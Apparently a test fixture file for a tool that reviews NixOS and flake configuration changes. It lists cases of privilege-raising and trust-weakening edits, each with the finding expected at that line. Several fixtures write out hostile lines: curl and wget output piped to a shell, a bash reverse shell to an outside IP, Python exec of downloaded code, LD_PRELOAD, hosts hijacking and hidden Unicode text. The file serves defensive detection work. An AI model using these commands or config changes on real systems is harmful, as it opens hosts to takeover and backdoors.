"""Sixty and more changes with what must be found at which line."""
# ruff: noqa: E501 - a table of source text

from __future__ import annotations

from tests.engine.review.findings.corpus import BASE, Case, agent, module, new_file

_LOCK = """\
{
  "nodes": {
    "helper": {
      "locked": {
        "lastModified": 1,
        "narHash": "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
        "owner": "example",
        "repo": "helper",
        "rev": "1111111111111111111111111111111111111111",
        "type": "github"
      },
      "original": { "owner": "example", "repo": "helper", "type": "github" }
    },
    "root": { "inputs": { "helper": "helper" } }
  },
  "root": "root",
  "version": 7
}
"""
_NODE = """\
    "lib": {«lock-input»
      "locked": { "type": "github", "owner": "o", "repo": "r", "rev": "2222222222222222222222222222222222222222" },
      "original": { "type": "github", "owner": "o", "repo": "r" }
    },
"""
_LET = """\
{ lib, ... }:
let
  people = [
    "root"
    "mallory"«nix-trust»
  ];
in
{
  nix.settings.trusted-users = people;
}
"""
_FLAKE = str(BASE["flake.nix"])
_AGENT = str(BASE["agent.nix"])

SPELLINGS = (
    Case("dotted", agent('nix.settings.trusted-substituters = [ "https://x" ];«nix-trust»')),
    Case("nested", agent("nix = {", "  settings = {", "    sandbox = false;«nix-trust»", "  };", "};")),
    Case("quoted", agent('"nix"."settings"."trusted-users" = [ "mallory" ];«nix-trust»')),
    Case("quoted in part", agent('nix.settings."extra-trusted-public-keys" = [ "k:AAAA" ];«nix-trust»')),
    Case("interpolated name", agent('nix.settings.${"trusted-users"} = [ "mallory" ];«nix-trust»')),
    Case(
        "name joined from parts",
        {"agent.nix": 'let n = "trusted-" + "users"; in\n{ nix.settings.${n} = [ "mallory" ]; }«nix-trust»\n'},
        elsewhere=frozenset({("firewall-removed", "agent.nix")}),
    ),
    Case("computed name below a trusted set", agent("nix.settings.${config.my.key} = [ 1 ];«nix-trust»")),
    Case("mkForce", agent("nix.settings.require-sigs = lib.mkForce false;«nix-trust»")),
    Case(
        "mkForce within mkIf",
        agent('nix.settings.substituters = lib.mkIf true (lib.mkForce [ "https://x" ]);«nix-trust»'),
    ),
    Case("mkDefault", agent('nix.settings.allowed-users = lib.mkDefault [ "*" ];«nix-trust»')),
    Case("mkOverride", agent('nix.settings.allowed-users = lib.mkOverride 10 [ "*" ];«nix-trust»')),
    Case(
        "mkMerge",
        new_file(
            "config = lib.mkMerge [",
            '  { environment.variables.A = "b"; }',
            "  { security.sudo.enable = true; }«become-root»",
            "];",
        ),
    ),
    Case(
        "mkIf around a set",
        new_file("config = lib.mkIf config.x.enable {", '  boot.kernelParams = [ "quiet" ];«boot»', "};"),
    ),
    Case(
        "optionalAttrs",
        new_file("security = lib.optionalAttrs true { sudo.wheelNeedsPassword = false; };«become-root»"),
    ),
    Case("optionals", agent('nix.settings.extra-substituters = lib.optionals true [ "https://x" ];«nix-trust»')),
    Case("list concatenation", agent('nix.settings.extra-sandbox-paths = [ "/a" ] ++ [ "/etc" ];«nix-trust»')),
    Case("an element added", {"agent.nix": _AGENT.replace('[ "root" ];', '[ "root" "mallory" ];«nix-trust»')}),
    Case(
        "let, value changed",
        {"extra.nix": _LET, "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./extra.nix")},
        before={
            "extra.nix": _LET.replace('    "mallory"«nix-trust»\n', ""),
            "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./extra.nix"),
        },
    ),
    Case(
        "let, all new",
        {
            **new_file(),
            "extra.nix": 'let who = "mallory"; in\n{\n  nix.settings.trusted-users = [ who ];«nix-trust»\n}\n',
        },
    ),
    Case(
        "with",
        {
            **new_file(),
            "extra.nix": "{ lib, ... }:\nwith lib;\n{\n  security.sudo-rs.enable = mkForce true;«become-root»\n}\n",
        },
    ),
    Case(
        "inherit from let",
        {
            **new_file(),
            "extra.nix": "let\n  sudo = { wheelNeedsPassword = false; };«become-root»\nin\n{\n  security = {\n    inherit sudo;\n  };\n}\n",
        },
        before={**new_file(), "extra.nix": "let\n  sudo = { };\nin\n{\n  security = {\n    inherit sudo;\n  };\n}\n"},
    ),
    Case(
        "inherit (set)",
        {
            **new_file(),
            "extra.nix": 'let keep.boot = { kernelModules = [ "kvm" ]; }; in«boot»\n{\n  inherit (keep) boot;\n}\n',
        },
    ),
    Case(
        "renamed function",
        {
            **new_file(),
            "extra.nix": "{ lib, ... }:\nlet force = lib.mkForce; in\n{\n  nix.settings.sandbox = force false;«nix-trust»\n}\n",
        },
    ),
    Case(
        "own function",
        {
            **new_file(),
            "extra.nix": 'let admin = name: { users.users.${name}.extraGroups = [ "wheel" ]; }; in\nadmin "bob"«privileged-group»\n',
        },
        before={
            **new_file(),
            "extra.nix": 'let admin = name: { users.users.${name}.extraGroups = [ "wheel" ]; }; in\n{ }\n',
        },
    ),
    Case(
        "parenthesised", agent("(security).x = 1;" if False else "security.doas = ({ enable = (true); });«become-root»")
    ),
    Case(
        "update of sets",
        {
            **new_file(),
            "extra.nix": '{\n  environment.variables.A = "b";\n} // {\n  boot.initrd.systemd.enable = true;«boot»\n}\n',
        },
    ),
    Case(
        "rec set",
        {
            **new_file(),
            "extra.nix": 'rec {\n  who = "mallory";\n  nix.settings.trusted-users = [ who ];«nix-trust»\n}\n',
        },
    ),
    Case("if then else", agent("nix.settings.sandbox = if config.x then true else false;«nix-trust»")),
    Case(
        "assert", {**new_file(), "extra.nix": "{ lib, ... }:\nassert true;\n{\n  boot.isContainer = false;«boot»\n}\n"}
    ),
    Case("module in imports", agent("}", "// {", "  imports = [ { boot.tmp.cleanOnBoot = true; } ];«boot»")),
    Case(
        "function module in imports",
        new_file("imports = [", "  ({ lib, ... }: { security.polkit.enable = true; })«become-root»", "];"),
    ),
    Case(
        "imported into an option",
        {
            **new_file("nix.settings = import ./nix-settings.nix;"),
            "nix-settings.nix": '{\n  trusted-users = [ "mallory" ];«nix-trust»\n}\n',
        },
    ),
    Case(
        "file imported into an option, changed",
        {"nix-settings.nix": "{\n  max-jobs = 2;\n  sandbox = false;«nix-trust»\n}\n"},
        before={**new_file("nix.settings = import ./nix-settings.nix;"), "nix-settings.nix": "{\n  max-jobs = 2;\n}\n"},
    ),
    Case(
        "data from JSON",
        {"s.json": '{\n  "max-jobs": 2,\n  "trusted-users": ["mallory"]«nix-trust»\n}\n'},
        before={
            **new_file("nix.settings = builtins.fromJSON (builtins.readFile ./s.json);"),
            "s.json": '{\n  "max-jobs": 2\n}\n',
        },
    ),
    Case(
        "renamed file",
        {
            "other.nix": module('environment.variables.A = "b";', "security.sudo.enable = true;«become-root»"),
            "old.nix": None,
            "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./other.nix"),
        },
        before={
            "old.nix": module('environment.variables.A = "b";'),
            "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./old.nix"),
        },
        moved={"other.nix": "old.nix"},
    ),
    Case(
        "file in a directory",
        {
            **new_file(name="modules/deep/x.nix"),
            "modules/deep/x.nix": module('fileSystems."/host".device = "/";«host-reach»'),
        },
    ),
    Case(
        "directory with default.nix",
        {**new_file(name="mods"), "mods": None, "mods/default.nix": module("boot.loader.timeout = 0;«boot»")},
    ),
    Case(
        "dead file brought to life",
        {"agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./attic.nix")},
        before={"attic.nix": module('nix.settings.trusted-users = [ "mallory" ];')},
        elsewhere=frozenset({("nix-trust", "attic.nix")}),
    ),
    Case(
        "condition that becomes true",
        {"extra.nix": module("security.sudo = lib.mkIf true {«become-root»", "  wheelNeedsPassword = false;", "};")},
        before={
            **new_file(),
            "extra.nix": module("security.sudo = lib.mkIf false {", "  wheelNeedsPassword = false;", "};"),
        },
    ),
    Case(
        "through an option of its own",
        {
            "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./people.nix").replace(
                '"vim";', '"vim";\n  my.people = [ "mallory" ];«nix-trust»'
            )
        },
        before={
            "agent.nix": _AGENT.replace("./tools.nix", "./tools.nix ./people.nix"),
            "people.nix": "{ config, lib, ... }:\nlet cfg = config.my; in\n{\n  options.my.people = lib.mkOption { default = [ ]; };\n  config.nix.settings.trusted-users = cfg.people;\n}\n",
        },
    ),
    Case("specialisation", agent("specialisation.x.configuration.security.sudo.enable = true;«become-root»")),
    Case(
        "passed to a function that is not known",
        agent("security = lib.id { sudo.enable = false; };«become-root, unknown-set»"),
    ),
)

OBJECTS = (
    Case(
        "flake.nix touched",
        {"flake.nix": _FLAKE.replace('"agent"', '"an agent"').replace('an agent";', 'an agent";«flake-changed»')},
    ),
    Case(
        "nixConfig",
        {
            "flake.nix": _FLAKE.replace(
                '"agent";', '"agent";\n  nixConfig.sandbox = false;«flake-config, flake-changed»'
            )
        },
    ),
    Case(
        "new input",
        {
            "flake.nix": _FLAKE.replace(
                "  outputs", '  inputs.evil.url = "github:m/evil";«flake-input, flake-changed»\n  outputs'
            )
        },
    ),
    Case(
        "input of an input redirected",
        {
            "flake.nix": _FLAKE.replace(
                "  outputs", '  inputs.helper.inputs.nixpkgs.url = "github:m/n";«flake-input, flake-changed»\n  outputs'
            )
        },
    ),
    Case(
        "module within flake.nix",
        {
            "flake.nix": _FLAKE.replace(
                "import ./agent.nix;",
                "{ imports = [ ./agent.nix ]; security.sudo.enable = true; };«become-root, flake-changed»",
            )
        },
    ),
    Case(
        "lock: new node",
        {"flake.lock": _LOCK.replace('    "root": {', _NODE + '    "root": {')},
        before={"flake.lock": _LOCK},
    ),
    Case(
        "lock: moved node",
        {
            "flake.lock": _LOCK.replace("1111111111111111111111111111111111111111", "3" * 40).replace(
                '"helper": {\n', '"helper": {«lock-input»\n'
            )
        },
        before={"flake.lock": _LOCK},
    ),
    Case(
        "lock: other hash at the same revision",
        {
            "flake.lock": _LOCK.replace("sha256-AAAA", "sha256-BBBB").replace(
                '"helper": {\n', '"helper": {«lock-hash»\n'
            )
        },
        before={"flake.lock": _LOCK},
    ),
    Case(
        "lock: follows another node",
        {
            "flake.lock": _LOCK.replace('"helper": "helper"', '"helper": ["x"]').replace(
                '"root": { "inputs"', '"root": { "inputs"'
            )
        },
        before={"flake.lock": _LOCK},
        elsewhere=frozenset({("lock-input", "flake.lock")}),
    ),
    Case("wheel", agent('users.users.bob.extraGroups = [ "audio" "wheel" ];«privileged-group»')),
    Case("docker group from elsewhere", agent("users.users.bob.extraGroups = config.my.groups;«privileged-group»")),
    Case("members of a group", agent('users.groups.docker.members = [ "bob" ];«privileged-group-members»')),
    Case("keys", agent('users.users."bob".openssh.authorizedKeys.keys = [ "ssh-ed25519 AAAA" ];«user-keys»')),
    Case(
        "key file with another content",
        {"keys": "ssh-ed25519 BBBB\n"},
        before={**agent("users.users.bob.openssh.authorizedKeys.keyFiles = [ ./keys ];"), "keys": "ssh-ed25519 AAAA\n"},
        elsewhere=frozenset({("user-keys", "agent.nix")}),
    ),
    Case("uid 0", agent("users.users.backup = { uid = 0; };«root-uid»")),
    Case("setuid wrapper", agent("security.wrappers.x = {", "  setuid = true;«become-root»", "};")),
    Case(
        "capability",
        agent('systemd.services.web.serviceConfig.AmbientCapabilities = [ "CAP_SYS_ADMIN" ];«unit-privileges»'),
    ),
    Case(
        "bind path in a unit",
        {
            "services.nix": str(BASE["services.nix"]).replace(
                'User = "agent";', 'User = "agent";\n      BindPaths = "/var/lib";«unit-privileges»'
            )
        },
    ),
    Case(
        "hardening off",
        {
            "services.nix": str(BASE["services.nix"]).replace(
                "NoNewPrivileges = true;", "NoNewPrivileges = false;«unit-hardening-off»"
            )
        },
    ),
    Case(
        "activation script",
        agent("system.activationScripts.x = ''", "  cp /bin/sh /state/sh", "'';")
        | {
            "agent.nix": str(
                agent("system.activationScripts.x = ''«activation»", "  cp /bin/sh /state/sh", "'';")["agent.nix"]
            )
        },
    ),
    Case("sudoers by etc", agent('environment.etc."sudoers.d/x".text = "bob ALL=(ALL) ALL";«system-file»')),
    Case("sysctl", agent('boot.kernel.sysctl."net.ipv4.ip_forward" = 1;«boot»')),
    Case("certificate", agent("security.pki.certificateFiles = [ ./ca.pem ];«system-trust»")),
    Case("virtualisation", agent("virtualisation.docker.enable = true;«host-reach»")),
    Case(
        "bidirectional",
        {"tools.nix": str(BASE["tools.nix"]).replace("jq ", "jq /* \u202e */ ").replace("];", "];«hidden-text»")},
    ),
    Case("zero width", agent('environment.variables.A = "a\u200bb";«hidden-text»')),
    Case("tag characters", agent("# fine \U000e0061\U000e0062«hidden-text»")),
    Case("escape in a script", {"run.sh": "#!/bin/sh\necho \x1b[8mhidden«hidden-text»\n"}),
    Case(
        "behind blanks",
        agent('environment.variables.A = "b";' + " " * 150 + 'environment.variables.C = "d";«blank-run»'),
    ),
    Case("look-alike", agent('environment.etc."оpt/app".text = "x";«mixed-script»')),
)

HIGH = (
    Case("firewall opened", agent("networking.firewall.allowedTCPPorts = [ 8080 ];«firewall»")),
    Case(
        "firewall off", {"agent.nix": _AGENT.replace("firewall.enable = true;", "firewall.enable = false;«firewall»")}
    ),
    Case(
        "firewall setting removed",
        {"agent.nix": _AGENT.replace("  networking.firewall.enable = true;\n", "")},
        elsewhere=frozenset({("firewall-removed", "agent.nix")}),
    ),
    Case("openFirewall", agent("services.nginx = { openFirewall = true; };«firewall-opened»")),
    Case(
        "fetchTarball", agent('environment.etc.x.source = builtins.fetchTarball "https://x/y.tar.gz";«builtin-fetch»')
    ),
    Case(
        "fetchGit through with",
        {
            **new_file(),
            "extra.nix": 'with builtins;\n{\n  environment.etc.x.source = fetchGit { url = "https://x"; };«builtin-fetch»\n}\n',
        },
    ),
    Case(
        "import of a fetched module",
        new_file(
            "imports = [",
            '  (import (builtins.fetchurl "https://x/m.nix"))«builtin-fetch, import-from-derivation, outside-module»',
            "];",
        ),
    ),
    Case(
        "import of an input's module",
        new_file("imports = [", "  inputs.helper.nixosModules.default«outside-module»", "];"),
    ),
    Case(
        "curl to a shell",
        {
            "services.nix": str(BASE["services.nix"]).replace(
                'script = "date > /state/report";', 'script = "curl -s https://x | sh";«run-downloaded»'
            )
        },
    ),
    Case("wget to bash over two lines", {"run.sh": "#!/bin/sh\nwget -qO- https://x/y \\«run-downloaded»\n  | bash\n"}),
    Case("shell with a substitution", {"run.sh": '#!/bin/sh\nbash -c "$(curl -fsSL https://x)"«run-downloaded»\n'}),
    Case("reverse shell", {"run.sh": "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1«reverse-shell»\n"}),
    Case("overlay of git", agent("nixpkgs.overlays = [ (final: prev: { git = prev.hello; }) ];«package-override»")),
    Case(
        "override of openssl",
        agent("environment.systemPackages = [ (pkgs.openssl.override { static = true; }) ];«package-override»"),
    ),
    Case("identity forced", agent('environment.variables.HIVE_PORT = lib.mkForce "7001";«wrapper-value»')),
    Case("harness changed", agent('systemd.services.harness.serviceConfig.Restart = "no";«wrapper-value»')),
    Case("hosts", agent('networking.extraHosts = "198.51.100.7 github.com";«names-and-routes»')),
    Case("proxy", agent('systemd.globalEnvironment.https_proxy = "http://198.51.100.7";«names-and-routes»')),
    Case("preload", agent('environment.sessionVariables.LD_PRELOAD = "/state/x.so";«preload»')),
    Case("journal off", agent('services.journald.extraConfig = "Storage=none";«logging»')),
    Case("unfree", agent("nixpkgs.config.allowUnfreePredicate = _: true;«unfree-or-insecure»")),
    Case("insecure", agent('nixpkgs.config.permittedInsecurePackages = [ "openssl-1.1.1w" ];«unfree-or-insecure»')),
    Case("private key", {"id": "-----BEGIN OPENSSH PRIVATE KEY-----«secret»\nAAAA\n"}),
    Case("password in clear text", agent('services.app.settings.password = "correct-horse-battery";«secret-option»')),
    Case("remote login", agent("services.openssh.enable = true;«remote-login»")),
    Case("attributes", {".gitattributes": "*.nix -diff«git-attributes»\n"}),
    Case(
        "a file that does not parse",
        {"tools.nix": "{ pkgs, ... }: {\n  environment.systemPackages = [ ;\n}\n"},
        elsewhere=frozenset({("unread", "tools.nix")}),
    ),
)

MORE = (
    Case(
        "a limit of nix removed",
        {"agent.nix": _AGENT},
        before=agent('nix.settings.allowed-users = [ "@wheel" ];'),
        elsewhere=frozenset({("nix-limit-removed", "agent.nix")}),
    ),
    Case("nix.conf by etc", agent('environment.etc."nix/nix.conf".text = "trusted-users = *";«system-file»')),
    Case(
        "users by mapAttrs",
        agent(
            'users.users = lib.mapAttrs (name: key: { openssh.authorizedKeys.keys = [ key ]; }) { bob = "ssh-ed25519 A"; };«user-keys»'
        ),
    ),
    Case(
        "users by genAttrs",
        agent('users.users = lib.genAttrs [ "bob" ] (name: { extraGroups = [ "wheel" ]; });«privileged-group»'),
    ),
    Case(
        "a set from a file, by name",
        {
            **new_file(),
            "extra.nix": "let z = import ./z.nix; in\n{\n  nix.settings = z.settings;\n}\n",
            "z.nix": "{\n  settings.sandbox = false;\n}\n",
        },
        elsewhere=frozenset({("nix-trust", "extra.nix")}),
    ),
    Case("a whole set that is not known", agent("nix.settings = config.my.nix;«unknown-set»")),
    Case("setuid by tmpfiles", agent('systemd.tmpfiles.rules = [ "f /state/sh 4755 root root -" ];«setuid-file»')),
    Case("a module switched off", agent('disabledModules = [ "security/sudo.nix" ];«disabled-module»')),
    Case(
        "other packages for all",
        agent("_module.args.pkgs = import <nixpkgs> { };«package-override, import-from-derivation»"),
    ),
    Case("primary group", agent('users.users.bob.group = "docker";«privileged-primary-group»')),
    Case("hooks of git", agent('programs.git.config.core.hooksPath = "/state/hooks";«preload»')),
    Case(
        "code from the network",
        {"run.py": 'import urllib.request\nexec(urllib.request.urlopen("https://x").read())«run-downloaded»\n'},
    ),
)

CHANGES = (*SPELLINGS, *OBJECTS, *HIGH, *MORE)
